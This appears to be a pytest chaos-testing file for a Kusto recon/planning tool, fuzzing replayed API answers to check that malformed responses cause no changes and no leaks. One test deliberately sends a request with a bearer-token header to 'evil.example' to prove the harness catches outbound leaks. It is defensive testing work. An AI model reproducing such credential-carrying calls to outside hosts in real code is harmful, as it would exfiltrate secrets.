"""A sample of the mutated answers; all 10 000 of them: ``python -m tests.chaos.fuzz_answers``."""

from __future__ import annotations

import json
import random

import pytest
import requests

from kxrecon.model import Failure, Read
from tests.chaos import FULL
from tests.chaos.fuzz_answers import batch, judged, main, stages
from tests.chaos.replay import Played, without
from tests.chaos.wounds import FAILURES, PAGES, wounded


@pytest.fixture(scope="module")
def acts(tmp_path_factory):
    with stages(tmp_path_factory.mktemp("answers")) as found:
        yield {one.name: one for one in found}


def test_mutated_answers_are_failures_that_name_their_read_or_plans():
    counts, accidents, _ = batch(range(90))
    assert not accidents, accidents
    assert counts["failed reads"] > 40 and counts["as usual"] + counts["other"] > 10


def test_a_mutants_number_is_all_that_it_takes_to_make_it_again():
    answer = Played(("POST", "http://x/v1/rest/mgmt", "D", ".show x"), 200, {"A": "b"}, json.dumps(TABLES).encode())
    assert [wounded(answer, random.Random(n))[0] for n in range(99)] == [
        wounded(answer, random.Random(n))[0] for n in range(99)
    ]


TABLES = {"Tables": [{"TableName": "T", "Columns": [{"ColumnName": "A", "DataType": "String"}], "Rows": [["x"]]}]}


@pytest.mark.parametrize("what", ["a request elsewhere", "a nameless failure", "a wrong verdict", "a traceback"])
def test_the_judge_sees(acts, monkeypatch, what):
    """Each of its four complaints, made to happen."""
    stage = acts["plan seed"]
    number, answer = next(pair for pair in stage.answers if pair[1].key[-1] == ".show continuous-exports")
    broken = without(answer, body=b"{")

    def act(planes):
        if what == "a request elsewhere":
            session = requests.Session()
            session.trust_env = False
            session.get("https://evil.example/", headers={"Authorization": "Bearer x"}, timeout=1)
        if what == "a nameless failure":
            planes["kusto"]._failed.append(
                (Read("kusto", "Telemetry", ".show continuous-exports"), Failure("failed", "no"))
            )
        if what == "a traceback":
            raise KeyError("defect")
        return {"something"} if what == "a wrong verdict" else set()

    monkeypatch.setattr(stage, "act", act)
    monkeypatch.setattr(stage, "answers", [(number, broken)] * 3)
    monkeypatch.setattr("tests.chaos.fuzz_answers.wounded", lambda answer, order: ("broken end", broken))
    with pytest.raises((AssertionError, KeyError), match="evil|does not name|follows|defect"):
        judged(stage, random.Random(1))


@pytest.mark.parametrize("page", range(len(PAGES)))
def test_no_page_in_place_of_an_answer_leads_to_a_change(acts, page):
    """Each page in place of every answer of a plan, one at a time in turn: as many as there are answers."""
    stage = acts["plan seed"]
    status, headers, body = PAGES[page]
    chosen = [
        pair for place, pair in enumerate(stage.answers) if not pair[1].is_sql and place % len(PAGES) == page
    ] or [stage.answers[0]]
    for number, answer in chosen:
        with stage.player.changed(
            (number, without(answer, status=status, headers=dict(headers), body=body))
        ).playing() as player:
            assert stage.act(stage.planes) <= stage.usual
            assert player.leaks == []


@pytest.mark.parametrize("number", range(len(FAILURES)))
def test_no_trouble_on_the_way_leads_to_a_change(acts, number):
    stage = acts["plan seed"]
    place, answer = stage.answers[number]
    with stage.player.changed((place, without(answer, error=FAILURES[number]()))).playing():
        assert stage.act(stage.planes) <= stage.usual


def test_every_column_of_every_answer_may_be_missing_or_have_another_name(acts):
    """Nothing is planned from what is not there."""
    stage = acts["plan seed"]
    tried = 0
    for number, answer in stage.answers:
        if not answer.is_kusto or answer.status != 200:
            continue
        for place in range(len(json.loads(answer.body)["Tables"][0]["Columns"])):
            document = json.loads(answer.body)
            document["Tables"][0]["Columns"][place]["ColumnName"] = "Renamed"
            with stage.player.changed((number, without(answer, body=json.dumps(document).encode()))).playing():
                assert stage.act(stage.planes) == set(), (answer.key, place)
            tried += 1
    assert tried > 60


def test_a_million_rows_are_read_in_bounded_time_and_change_nothing(acts):
    """As the roles of a database, which nobody limits."""
    stage = acts["plan seed"]
    number, answer = next(pair for pair in stage.answers if "['Telemetry'] principals" in pair[1].key[-1])
    document = json.loads(answer.body)
    table = document["Tables"][0]
    table["Rows"] = table["Rows"] * (1_000_000 // len(table["Rows"]) if FULL else 20)
    with stage.player.changed((number, without(answer, body=json.dumps(document).encode()))).playing():
        assert stage.act(stage.planes) == set()


@pytest.mark.skipif(not FULL, reason="the long form: make chaos")
def test_ten_thousand_mutated_answers():
    assert main(["--count", "10000"]) == 0
